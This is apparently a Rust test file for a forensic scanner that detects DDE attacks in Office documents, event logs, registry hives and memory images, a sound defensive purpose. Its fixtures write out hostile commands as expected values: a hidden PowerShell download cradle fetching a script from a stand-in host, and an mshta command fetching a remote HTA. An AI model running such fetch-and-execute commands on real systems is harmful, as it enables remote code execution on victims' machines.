//! The host scenarios of `testdata/scenarios/` (see its README), scanned end to end: the rows
//! each one gives today, by value. Document findings are timed at the file's modification time
//! (the checkout's), so no assertion here looks at their time.

use ddesweep_testgen::scenarios;
use serde_json::{Value, json};

use crate::util::{Scan, scan, testdata};

/// The rows of `run` whose rule is `rule`.
fn with_rule<'a>(run: &'a Scan, rule: &str) -> Vec<&'a Value> {
    run.rows.iter().filter(|r| r["rule_id"] == rule).collect()
}

/// The finding rows (severity above info).
fn findings(run: &Scan) -> Vec<&Value> {
    run.rows
        .iter()
        .filter(|r| r["severity"] != "info")
        .collect()
}

const SYSMON: &str = "C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx";
const POWERSHELL_CMD: &str = r"powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";

#[test]
fn wks_sales_042_phishing_from_outlook() {
    let run = scan(&[&testdata("scenarios/wks-sales-042")], &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);

    let fields = with_rule(&run, "ddesweep.document.ddeauto_field");
    assert_eq!(fields.len(), 1);
    let field = fields[0];
    assert_eq!(
        field["source_path"],
        "C/Users/dave/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/Q3ZK81PD/Remittance_May.docx"
    );
    assert_eq!(
        field["command"],
        format!(r#"c:\windows\system32\cmd.exe "/c {POWERSHELL_CMD}""#)
    );
    assert_eq!(field["severity"], "critical");
    assert!(
        field["tag"]
            .as_array()
            .unwrap()
            .contains(&"email_attachment".into())
    );
    assert_eq!(field["host"], "WKS-SALES-042");
    assert_eq!(field["user"], "dave");

    // WINWORD.EXE (4412) -> cmd.exe (5120), from Sysmon 1 (record 5) and Security 4688.
    let spawns = with_rule(&run, "ddesweep.eventlog.office_child");
    let sysmon: Vec<&&Value> = spawns
        .iter()
        .filter(|r| r["source_path"] == SYSMON)
        .collect();
    assert_eq!(sysmon.len(), 1);
    let cmd = sysmon[0];
    assert_eq!(cmd["record_number"], 5);
    assert_eq!(cmd["datetime"], "2024-05-06T08:59:44.000000+00:00");
    assert_eq!(cmd["image"], r"C:\Windows\System32\cmd.exe");
    assert_eq!(
        cmd["parent_image"],
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    );
    assert_eq!(
        cmd["command"],
        format!(r"c:\windows\system32\cmd.exe /c {POWERSHELL_CMD}")
    );
    assert_eq!(cmd["process_id"], 5120);
    assert_eq!(
        cmd["process_guid"],
        "{b2796a13-4d21-65e5-0000-00000000a006}"
    );
    assert_eq!(cmd["parent_process_id"], 4412);
    assert_eq!(
        cmd["parent_process_guid"],
        "{b2796a13-4d21-65e5-0000-00000000a005}"
    );
    assert_eq!(cmd["computer_name"], "wks-sales-042.corp.example");
    assert_eq!(cmd["user"], r"CORP\dave");
    let security: Vec<&&Value> = spawns
        .iter()
        .filter(|r| r["source_path"] == "C/Windows/System32/winevt/Logs/Security.evtx")
        .collect();
    assert_eq!(security.len(), 1);
    assert_eq!(security[0]["record_number"], 1);
    assert_eq!(security[0]["process_id"], 0x1400);

    // AllowDDE = 2: the Sysmon 13 write (record 2) and the value in dave's hive.
    let allow: Vec<(&Value, &Value, &Value, &Value)> =
        with_rule(&run, "ddesweep.eventlog.word_allow_dde")
            .into_iter()
            .map(|r| (&r["data_type"], &r["datetime"], &r["value"], &r["host"]))
            .collect();
    assert_eq!(
        allow,
        [
            (
                &json!("ddesweep:registry:office_setting"),
                &json!("2024-05-06T08:57:10.000000+00:00"),
                &json!("2 (0x00000002)"),
                &json!("WKS-SALES-042"),
            ),
            (
                &json!("ddesweep:eventlog:registry_change"),
                &json!("2024-05-06T08:57:10.000000+00:00"),
                &json!("DWORD (0x00000002)"),
                // One host name for the log's FQDN and the SYSTEM hive.
                &json!("WKS-SALES-042"),
            ),
        ]
    );
    // Every hive row names the host from the SYSTEM hive.
    let hive_rows: Vec<&Value> = run
        .rows
        .iter()
        .filter(|r| {
            r["data_type"]
                .as_str()
                .unwrap()
                .starts_with("ddesweep:registry:")
        })
        .collect();
    assert!(hive_rows.len() >= 5, "{hive_rows:?}");
    assert!(hive_rows.iter().all(|r| r["host"] == "WKS-SALES-042"));
    // The benign forecast gives no finding.
    assert!(findings(&run).iter().all(|r| {
        !r["source_path"]
            .as_str()
            .unwrap()
            .ends_with("Q1_Forecast.docx")
    }));
}

#[test]
fn wks_sales_042_memory_image() {
    let run = scan(&[&testdata("scenarios/wks-sales-042.mem")], &["--memory"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let carve = &run.artifact("wks-sales-042.mem")["carve"];
    assert_eq!(carve["evtx_chunks"], 1);
    assert_eq!(carve["evtx_records"], 4);
    assert_eq!(carve["evtx_records_failed"], 0);
    // Records 5 to 8 of the chunk: WINWORD.EXE -> cmd.exe, cmd.exe -> PowerShell, its DNS query
    // and its connection, each a carved row with its record number and the log's computer.
    let carved: Vec<(u64, &str, &str)> = run
        .rows
        .iter()
        .filter(|r| r["record_number"].is_u64())
        .map(|r| {
            assert_eq!(r["computer_name"], "wks-sales-042.corp.example");
            assert_eq!(r["host"], "WKS-SALES-042");
            assert!(r["tag"].as_array().unwrap().contains(&"carved".into()));
            (
                r["record_number"].as_u64().unwrap(),
                r["data_type"].as_str().unwrap(),
                r["rule_id"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        carved,
        [
            (
                5,
                "ddesweep:eventlog:process_start",
                "ddesweep.eventlog.office_child"
            ),
            (
                6,
                "ddesweep:eventlog:process_start",
                "ddesweep.eventlog.office_descendant"
            ),
            (
                7,
                "ddesweep:eventlog:dns_query",
                "ddesweep.eventlog.office_tree_activity"
            ),
            (
                8,
                "ddesweep:eventlog:network_connection",
                "ddesweep.eventlog.office_tree_activity"
            ),
        ]
    );
    // The two planted strings (the carved chunk's own strings hit too, at offsets inside it).
    let cradle = scenarios::MEMORY_CRADLE;
    let marker = |text: &str| text.find("DownloadString(").unwrap();
    let offsets = [
        scenarios::MEMORY_COMMAND_LINE_OFFSET + 2 * marker(POWERSHELL_CMD),
        scenarios::MEMORY_CRADLE_OFFSET + marker(cradle),
    ]
    .map(|o| Value::from(o.to_string()));
    let strings: Vec<(&Value, &Value, &Value)> = run
        .rows
        .iter()
        .filter(|r| r["data_type"] == "ddesweep:memory:string")
        .filter(|r| offsets.contains(&r["hit_offsets"]))
        .map(|r| (&r["text_encoding"], &r["carved_text"], &r["rule_id"]))
        .collect();
    assert_eq!(
        strings,
        [
            (
                &json!("utf-16le"),
                &json!(POWERSHELL_CMD),
                &json!("ddesweep.memory.download_marker"),
            ),
            (
                &json!("ascii"),
                &json!(cradle),
                &json!("ddesweep.memory.download_marker"),
            ),
        ]
    );
}

#[test]
fn wks_fin_011_is_no_evidence_with_the_site_profile() {
    let evidence = testdata("scenarios/wks-fin-011");
    let default = scan(&[&evidence], &[]);
    let mut rules: Vec<&str> = findings(&default)
        .iter()
        .map(|r| r["rule_id"].as_str().unwrap())
        .collect();
    rules.sort();
    assert_eq!(
        rules,
        [
            "ddesweep.document.dde_link",
            "ddesweep.eventlog.excel_child_executable",
            "ddesweep.eventlog.excel_dde_server_launch",
            "ddesweep.eventlog.excel_dde_server_launch",
        ]
    );
    let link = with_rule(&default, "ddesweep.document.dde_link")[0];
    assert_eq!(link["dde_service"], "CLEDGER");
    assert_eq!(link["dde_topic"], "GL");
    assert_eq!(link["dde_item"], "BALANCE");

    let profile = testdata("scenarios/erp-site.toml");
    let site = scan(&[&evidence], &["--profile", profile.to_str().unwrap()]);
    assert_eq!(site.code, 0, "{}", site.stderr);
    assert_eq!(findings(&site), Vec::<&Value>::new());
    assert!(!site.rows.is_empty(), "context rows stay");
    assert_eq!(site.manifest["totals"]["findings"], 0);
    assert_eq!(site.manifest["totals"]["excluded"], 4);
    assert_eq!(
        site.artifact("GL_Balances.xlsx")["document"]["excluded"],
        json!({"contoso-ledger-dde-link": 1})
    );
    assert_eq!(
        site.artifact("frank/NTUSER.DAT")["hive"]["excluded"],
        json!({"contoso-ledger-dde-server-launch": 1})
    );
    assert_eq!(
        site.artifact(SYSMON)["eventlog"]["excluded"],
        json!({"contoso-ledger-programs": 2})
    );
}

#[test]
fn wks_hr_007_dormant_document() {
    let run = scan(&[&testdata("scenarios/wks-hr-007")], &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let found = findings(&run);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["rule_id"], "ddesweep.document.ddeauto_field");
    assert_eq!(
        found[0]["source_path"],
        "C/Users/carol/Documents/Archive/Vendor_Quote_2019.docx"
    );
    assert_eq!(
        found[0]["command"],
        r#"c:\windows\system32\cmd.exe "/c mshta http://quote-files.example/q.hta""#
    );
    assert_eq!(found[0]["host"], "WKS-HR-007");
    // The event log only shows Word opening the handbook: context, no finding.
    let log: Vec<&Value> = run
        .rows
        .iter()
        .filter(|r| r["source_path"] == SYSMON)
        .collect();
    assert_eq!(log.len(), 1);
    assert_eq!(
        log[0]["data_type"],
        "ddesweep:eventlog:office_document_open"
    );
    assert_eq!(log[0]["severity"], "info");
}
